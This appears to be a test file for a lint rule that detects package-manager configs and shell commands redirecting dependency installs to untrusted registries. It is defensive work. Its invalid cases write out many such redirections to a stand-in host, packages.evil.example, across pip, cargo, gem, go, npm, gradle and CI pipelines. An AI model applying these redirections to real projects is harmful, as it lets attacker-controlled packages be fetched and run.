import { ruleTester } from '../tester.ts';
import type { Case } from '../tester.ts';
import { bad, docker, sh, step, strictOnly } from './carriers.ts';
import rule from '../../src/rules/no-untrusted-registry.ts';

const NPM = ['https://registry', 'npmjs', 'org'].join('.');
const PYPI = `${['https://pypi', 'org'].join('.')}/simple`;
const GEMS = ['https://rubygems', 'org'].join('.');
const HOST = 'https://packages.evil.example/simple';
const file = (filename: string, code: string): Case => ({ code: `${code}\n`, filename });
const pyproject = (code: string): Case => file('pyproject.toml', code);

const strictCases = [
  strictOnly(pyproject(`[[tool.uv.index]]\nname = "acme"\nurl = "${HOST}"\nexplicit = true`), 'registry'),
  strictOnly(file('composer.json', `{ "repositories": [{ "type": "composer", "url": "${HOST}" }] }`), 'registry'),
  strictOnly(file('lerna.json', `{ "command": { "publish": { "registry": "${HOST}" } } }`), 'registry'),
  strictOnly(file('requirements.txt', '-i https://mirrors.aliyun.com/pypi/simple/'), 'mirror'),
  strictOnly(file('.drone.yml', 'steps:\n  - name: a\n    environment:\n      GOPROXY: https://goproxy.cn,direct'), 'mirror'),
];

await ruleTester(rule, {
  valid: [
    file('gradle/wrapper/gradle-wrapper.properties', 'distributionUrl=https\\://github.com/gradle/gradle-distributions/releases/download/v8.5/gradle-8.5-bin.zip'),
    file('.mvn/wrapper/maven-wrapper.properties', `distributionUrl=${['https://repo1.maven', 'org'].join('.')}/maven2/org/apache/maven/apache-maven-bin.zip`),
    ...strictCases.map(({ valid }) => valid),
    // Python
    pyproject(`[tool.uv]\nindex-url = "${PYPI}"\n[[tool.uv.index]]\nname = "pytorch"\nurl = "https://download.pytorch.org/whl/cpu"\n[[tool.poetry.source]]\nname = "PyPI"\npriority = "primary"`),
    pyproject(`[project.urls]\nHomepage = "${HOST}"\n[[tool.acme.mirror]]\nurl = "${HOST}"`),
    file('requirements.txt', `# --index-url ${HOST}\n--index-url ${PYPI}\n--extra-index-url https://download.pytorch.org/whl/cu118\n-r base.txt\nrequests==2.31.0 --hash=sha256:00\npkg @ ${HOST}/pkg.whl`),
    file('requirements.txt', '-i http://localhost:3141/root/dev\n-f https://data.pyg.org/whl/torch.html'),
    file('notes.txt', `--index-url ${HOST}`),
    // PHP, Rust, Ruby, wrappers
    file('composer.json', '{ "repositories": [{ "type": "vcs", "url": "https://git.evil.example/fork" }, { "type": "path", "url": "../lib" }, { "type": "composer", "url": "https://nova.laravel.com" }] }'),
    file('.cargo/config.toml', '[source.crates-io]\nreplace-with = "ustc"\n[source.ustc]\nregistry = "sparse+https://mirrors.ustc.edu.cn/crates.io-index/"\n[alias]\nindex = "run"'),
    file('Gemfile', `source '${GEMS}'\n# source '${HOST}'\ngit_source(:github) { |r| "https://github.com/#{r}.git" }\ngem 'rails'`),
    file('.gemrc', `:sources:\n- ${GEMS}/\ngem: --no-document`),
    file('gradle/wrapper/gradle-wrapper.properties', 'distributionUrl=https\\://services.gradle.org/distributions/gradle-8.10-all.zip\nvalidateDistributionUrl=true'),
    file('.mvn/wrapper/maven-wrapper.properties', 'distributionUrl=https://repo.maven.apache.org/maven2/a.zip'),
    // Pipelines
    file('.gitlab-ci.yml', `variables:\n  NPM_CONFIG_REGISTRY: "https://gitlab.com/api/v4/packages/npm/"\n  PIP_INDEX_URL: "https://x:\${CI_JOB_TOKEN}@\${CI_SERVER_HOST}/simple"\n  UV_INDEX_URL: "\${MIRROR}"\n  GOPROXY: "https://proxy.golang.org,direct"`),
    file('.travis.yml', `env:\n  global:\n    - NPM_CONFIG_REGISTRY=${NPM}\n    - NODE_ENV=test`),
    file('azure-pipelines.yml', 'variables:\n  - name: NPM_CONFIG_REGISTRY\n    value: https://pkgs.dev.azure.com/acme/_packaging/a/npm/registry/\n  - group: secrets'),
    file('Jenkinsfile', `pipeline {\n  environment {\n    NPM_CONFIG_REGISTRY = '${NPM}'\n    NPM_TOKEN = credentials('npm')\n    URL = '${HOST}'\n  }\n}`),
    file('compose.yaml', 'services:\n  a:\n    image: node\n    environment: ["NPM_CONFIG_REGISTRY=http://verdaccio:4873"]'),
    // Shell
    sh(`gem sources --add ${GEMS}/\ngem install bundler --source ${GEMS}\nbundle config set --local path vendor\nbundle config ${HOST} "$USER"`),
    sh('poetry config virtualenvs.create false\npoetry source add --priority=explicit pytorch https://download.pytorch.org/whl/cpu'),
    sh('composer config repositories.local path ../lib\ndotnet restore --source ./packages\ngo env -w GOPRIVATE=github.com/acme'),
    sh(`composer config repositories.acme composer ${HOST}`),
    step('echo "VERSION=1" >> "$GITHUB_ENV"'),
  ],
  invalid: [
    bad(file('.yarnrc.yml', `explicit: true\nnpmRegistryServer: "${HOST}"`), 'registry'),
    bad(file('gradle/wrapper/gradle-wrapper.properties', 'distributionUrl=https\\://github.com/evil/gradle/releases/download/v8.5/gradle-8.5-bin.zip'), 'registry'),
    bad(sh(`UV_INDEX="acme=${HOST}" uv sync`), 'registry'),
    bad(sh(`GOPROXY=direct,${HOST} go build ./...`), 'registry'),
    ...strictCases.map(({ invalid }) => invalid),
    bad(pyproject(`[[tool.uv.index]]\nurl = "${HOST}"\ndefault = true`), 'registry'),
    bad(pyproject(`[[tool.poetry.source]]\nname = "a"\nurl = "${HOST}"`), 'registry'),
    bad(pyproject(`[tool.uv.pip]\nextra-index-url = "http://packages.evil.example/simple"`), 'plain'),
    bad(file('Pipfile', `[[source]]\nurl = "${HOST}"\nverify_ssl = true\nname = "a"`), 'registry'),
    bad(file('uv.toml', `index-url = "${HOST}"`), 'registry'),
    { ...file('requirements.txt', `# a\n  --extra-index-url   ${HOST}\nacme`), errors: [{ messageId: 'registry', line: 2, column: 3, endLine: 2, endColumn: 20 }] },
    bad(file('requirements/dev.txt', `-i ${HOST}`), 'registry'),
    bad(file('requirements-dev.txt', `--index-url=${HOST}`), 'registry'),
    bad(file('composer.json', '{ "repositories": { "a": { "type": "composer", "url": "http://packages.evil.example" } } }'), 'plain'),
    bad(file('.cargo/config.toml', '[source.mirror]\nregistry = "sparse+https://packages.evil.example/index"'), 'registry'),
    bad(file('.cargo/config.toml', '[registries.acme]\nindex = "https://packages.evil.example/index"'), 'registry'),
    { ...file('Gemfile', `ruby '3.3'\nsource "${HOST}" do`), errors: [{ messageId: 'registry', line: 2, column: 1, endLine: 2, endColumn: 7 }] },
    bad(file('.gemrc', `:sources:\n- ${HOST}`), 'registry'),
    bad(file('.bundle/config', `---\nBUNDLE_MIRROR__ALL: "${HOST}"`), 'registry'),
    bad(file('gradle/wrapper/gradle-wrapper.properties', 'distributionUrl=https\\://packages.evil.example/gradle-8.10-bin.zip'), 'registry'),
    bad(file('.mvn/wrapper/maven-wrapper.properties', 'wrapperUrl=http://packages.evil.example/w.jar'), 'plain'),
    // Pipelines
    bad(file('.gitlab-ci.yml', `variables:\n  NPM_CONFIG_REGISTRY: "${HOST}"`), 'registry'),
    bad(file('.gitlab-ci.yml', `test:\n  variables:\n    PIP_INDEX_URL: ${HOST}\n  script: [pip install x]`), 'registry'),
    bad(file('.gitlab-ci.yml', 'variables:\n  GOPROXY: "https://proxy.golang.org,https://packages.evil.example"'), 'registry'),
    bad(file('.circleci/config.yml', `jobs:\n  a:\n    environment:\n      NPM_CONFIG_REGISTRY: ${HOST}`), 'registry'),
    bad(file('azure-pipelines.yml', `variables:\n  - name: PIP_EXTRA_INDEX_URL\n    value: ${HOST}`), 'registry'),
    bad(file('.travis.yml', `env:\n  global:\n    - NPM_CONFIG_REGISTRY=${HOST}`), 'registry'),
    bad(file('cloudbuild.yaml', `steps:\n  - name: node\n    env: ["NPM_CONFIG_REGISTRY=${HOST}"]`), 'registry'),
    { ...file('Jenkinsfile', `pipeline {\n  environment {\n    CI = 'true'\n    NPM_CONFIG_REGISTRY = "${HOST}"\n  }\n}`), errors: [{ messageId: 'registry', line: 4, column: 5, endLine: 4, endColumn: 24 }] },
    // Shell
    bad(sh(`gem sources --add ${HOST}`), 'registry'),
    bad(sh(`gem install rails --source=${HOST}`), 'registry'),
    bad(sh(`bundle config set --global mirror.${GEMS} ${HOST}`), 'registry'),
    bad(sh(`bundle config mirror.all ${HOST}`), 'registry'),
    bad(sh(`poetry source add --priority=primary a ${HOST}`), 'registry'),
    bad(sh(`composer config -g repos.packagist composer ${HOST}`), 'registry'),
    bad(sh(`cargo install --index ${HOST} x`), 'registry'),
    bad(sh(`dotnet nuget add source ${HOST} -n x`), 'registry'),
    bad(sh(`go env -w GOPROXY=${HOST}`), 'registry'),
    bad(sh(`NPM_CONFIG_REGISTRY=${HOST}\nexport NPM_CONFIG_REGISTRY`), 'registry'),
    bad(step(`echo "NPM_CONFIG_REGISTRY=${HOST}" >> "$GITHUB_ENV"`), 'registry'),
    bad(file('scripts/a.ps1', `$env:PIP_INDEX_URL = '${HOST}'`), 'registry'),
    bad(docker(`bundle config mirror.all ${HOST}`), 'registry'),
  ],
});
